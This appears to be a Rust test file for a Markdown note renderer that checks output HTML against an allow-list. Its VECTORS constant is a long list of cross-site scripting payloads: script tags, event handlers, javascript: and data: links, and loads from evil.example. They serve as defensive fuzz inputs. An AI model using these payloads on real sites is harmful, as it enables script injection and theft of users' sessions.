//! Notes are typed by hand and pasted from anywhere: whatever they hold, the HTML holds only what is on the list.

use proptest::prelude::*;
use vermilion_formats::note::note_html;
use vermilion_tests::invariants::note;

#[test]
fn a_note_is_rendered_as_markdown() {
    let table = [
        ("硃批", "<p>硃批</p>\n"),
        ("**重**與*輕*，~~刪~~", "<p><strong>重</strong>與<em>輕</em>，<del>刪</del></p>\n"),
        ("**「重點」**很清楚", "<p><strong>「重點」</strong>很清楚</p>\n"),
        ("他說**「甲」**和**乙。**再說", "<p>他說<strong>「甲」</strong>和<strong>乙。</strong>再說</p>\n"),
        ("**重點(甲)**很", "<p><strong>重點(甲)</strong>很</p>\n"),
        ("`a。**b`", "<p><code>a。**b</code></p>\n"),
        ("三*（二）*四", "<p>三*（二）*四</p>\n"),
        ("\\**「不」**", "<p>**「不」**</p>\n"),
        ("第一行\n第二行", "<p>第一行<br>\n第二行</p>\n"),
        ("a\\\nb", "<p>a<br>\nb</p>\n"),
        ("# 大\n\n## 中\n\n#### 小", "<h4>大</h4>\n<h5>中</h5>\n<h6>小</h6>\n"),
        ("> 引", "<blockquote>\n<p>引</p>\n</blockquote>\n"),
        ("- 一\n- 二", "<ul>\n<li>一</li>\n<li>二</li>\n</ul>\n"),
        ("3. 三", "<ol start=\"3\">\n<li>三</li>\n</ol>\n"),
        ("1. 一", "<ol>\n<li>一</li>\n</ol>\n"),
        ("`a<b`", "<p><code>a&lt;b</code></p>\n"),
        ("```js\nlet a;\n```", "<pre><code>let a;\n</code></pre>\n"),
        ("---", "<hr>\n"),
        (
            "[書](https://example.org/?a=1&b=2 \"題\")",
            "<p><a href=\"https://example.org/?a=1&amp;b=2\" rel=\"noopener noreferrer\">書</a></p>\n",
        ),
        (
            "<reader@example.org>",
            "<p><a href=\"mailto:reader@example.org\" rel=\"noopener noreferrer\">reader@example.org</a></p>\n",
        ),
        (
            "![山](https://example.org/a.png)",
            "<p><a href=\"https://example.org/a.png\" rel=\"noopener noreferrer\">山</a></p>\n",
        ),
        (
            "[![山](https://example.org/a.png)](https://example.org/b)",
            "<p><a href=\"https://example.org/b\" rel=\"noopener noreferrer\">山</a></p>\n",
        ),
        ("[近](notes.html)", "<p>近</p>\n"),
        ("<b>粗</b>", "<p>&lt;b&gt;粗&lt;/b&gt;</p>\n"),
        ("<div>\n塊\n</div>", "<p>&lt;div&gt;<br>塊<br>&lt;/div&gt;</p>\n"),
        ("| a | b |\n|---|---|\n| c | d |", "<p>| a | b |<br>\n|---|---|<br>\n| c | d |</p>\n"),
        ("- [x] 做", "<ul>\n<li>[x] 做</li>\n</ul>\n"),
        ("", ""),
    ];
    for (markdown, html) in table {
        assert_eq!(note_html(markdown), html, "{markdown:?}");
    }
}

/// Ways into a page that have worked somewhere.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><img src onerror=alert(1)></mtext></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=//evil.example/x.swf>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=\"//evil.example/\">",
    "<form action=//evil.example><input name=a><button>go</button></form>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!-- unclosed",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>'; ?>",
    "<!DOCTYPE html><script>1</script>",
    "</p></div></main><script>alert(1)</script>",
    "</aside><style>body{display:none}</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#1;javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example\\share)",
    "[x](tauri://localhost)",
    "[x](asset://localhost/etc/passwd)",
    "[x](https:javascript:alert(1))",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "[x](https://example.org/'onmouseover='alert(1))",
    "[x](<https://example.org/ onmouseover=alert(1)>)",
    "[x](https://example.org \"\\\" onmouseover=alert(1) \")",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <data:text/html,x> '<script>'",
    "<javascript:alert(1)>",
    "<https://example.org/<script>>",
    "<mailto:a@b.example?subject=\"><script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![<img src=x onerror=alert(1)>](https://example.org/a.png)",
    "![a [b](javascript:alert(1)) c](https://example.org/a.png \"<x>\")",
    "[![x](https://evil.example/t.gif)](javascript:alert(1))",
    "[a [b](https://example.org) c](https://example.org)",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "# <script>alert(1)</script> {#x onclick=alert(1)}",
    "## x {.a onclick=\"alert(1)\"}",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "99999999999999999999. <b>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "a\0b [x](https://example.org/\0)",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| x |",
    "- [ ] <script>alert(1)</script>",
    "$$<script>alert(1)</script>$$",
    "+++\ntitle = \"<script>\"\n+++\n---\na: <script>\n---",
    "**<b>*</b>**_<i>_",
    "[x](https://example.org/\u{202e}gpj.exe)",
];

#[test]
fn nothing_outside_the_list_comes_through() {
    for vector in VECTORS {
        for note in [(*vector).to_owned(), format!("前 {vector} 後"), format!("- 一\n\n  > {vector}\n\n**二")]
        {
            note::check(&note);
        }
    }
}

#[test]
fn an_unsafe_link_keeps_its_text_and_loses_its_destination() {
    assert_eq!(note_html("[按](javascript:alert(1))"), "<p>按</p>\n");
}

proptest! {
    #[test]
    fn any_note_is_rendered_from_the_list_alone(
        pieces in proptest::collection::vec(
            prop_oneof![proptest::sample::select(VECTORS.to_vec()).prop_map(str::to_owned), "[\\PC\n]{0,20}"],
            0..6,
        ),
    ) {
        note::check(&pieces.concat());
    }
}
